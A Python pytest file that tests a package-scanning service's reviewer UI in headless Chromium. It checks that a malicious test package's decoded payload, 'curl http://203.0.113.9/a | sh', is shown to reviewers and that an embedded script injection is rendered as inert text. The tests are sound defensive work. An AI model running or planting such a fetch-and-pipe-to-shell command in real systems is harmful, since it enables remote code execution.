"""The reviewer UI in real headless Chromium (Debian's, driven by Playwright).

Skipped when Playwright or /usr/bin/chromium is missing (``.ci/run`` installs chromium).
"""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from capwatch.service.app import create_app
from capwatch.service.runtime import Service
from capwatch.service.schema import Role
from capwatch.service.settings import ServiceSettings
from tests.service.conftest import make_tokens
from tests.service.packages import PAYLOAD, SCRIPT_MARK, hostile_html_sdist, malicious_sdist

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]

playwright_api = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium")


@dataclass
class Live:
    url: str
    tokens: dict[Role, str]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def live(tmp_path: Path) -> Iterator[Live]:
    import httpx
    import uvicorn

    url = f"sqlite:///{tmp_path / 'service.db'}"
    tokens = make_tokens(url)
    service = Service(ServiceSettings(data_dir=tmp_path / "data", db_url=url, workers=1))
    port = _free_port()
    server = uvicorn.Server(
        uvicorn.Config(create_app(service), host="127.0.0.1", port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "server did not start"
        time.sleep(0.05)
    base = f"http://127.0.0.1:{port}"
    headers = {"Authorization": f"Bearer {tokens[Role.UPLOADER]}"}
    with httpx.Client(base_url=base, headers=headers, timeout=30) as client:
        for name, data in (("evilpkg-1.0.tar.gz", malicious_sdist()),
                           ("xsspkg-1.0.tar.gz", hostile_html_sdist())):
            response = client.post("/api/v1/uploads", params={"wait": 10},
                                   files={"file": (name, data)})
            assert response.json()["verdict"] == "malicious", response.text
    try:
        yield Live(base, tokens)
    finally:
        server.should_exit = True
        thread.join(timeout=20)


@pytest.fixture
def page(live: Live) -> Iterator[Any]:
    with playwright_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            yield context.new_page()
        finally:
            browser.close()


def _sign_in(page: Any, live: Live) -> None:
    page.goto(live.url + "/")
    page.fill("#token", live.tokens[Role.REVIEWER])
    page.click("#sign-in")
    page.wait_for_url(re.compile(r".*/ui/queue.*"))


def test_review_a_malicious_scan_and_fetch_its_osv_record(live: Live, page) -> None:
    _sign_in(page, live)
    page.click("a.scan-link:has-text('evilpkg-1.0.tar.gz')")
    page.wait_for_url(re.compile(r".*/ui/scans/\d+$"))
    decoded = page.locator("pre.decoded").first
    assert "curl http://203.0.113.9/a | sh" in decoded.inner_text()
    assert PAYLOAD.splitlines()[1] in page.locator("pre.decoded").all_inner_texts()[0]
    page.fill("#note", "exec of a base64 blob that pipes curl into sh at install")
    page.click("#decide-malicious")
    page.wait_for_selector("#current-decision")
    assert "malicious" in page.locator("#current-decision").inner_text()
    page.click("#osv-link")
    record = json.loads(page.locator("body").inner_text())
    assert "evilpkg" in json.dumps(record)
    page.goto(live.url + "/ui/audit")
    assert "exec of a base64 blob" in page.locator("table.audit").inner_text()


def test_script_in_a_package_never_runs(live: Live, page) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text))
    _sign_in(page, live)
    page.click("a.scan-link:has-text('xsspkg-1.0.tar.gz')")
    page.wait_for_url(re.compile(r".*/ui/scans/\d+$"))
    page.wait_for_load_state("load")
    time.sleep(0.3)
    assert SCRIPT_MARK not in page.title()
    assert not dialogs
    assert page.evaluate("document.querySelectorAll('script').length") == 0
    body = page.locator("main").inner_text()
    assert "<script>document.title" in body  # shown as text, not run
    # A blocked inline script or handler shows as a Content-Security-Policy report here; the
    # page itself logs nothing (no missing resource either).
    assert violations == []
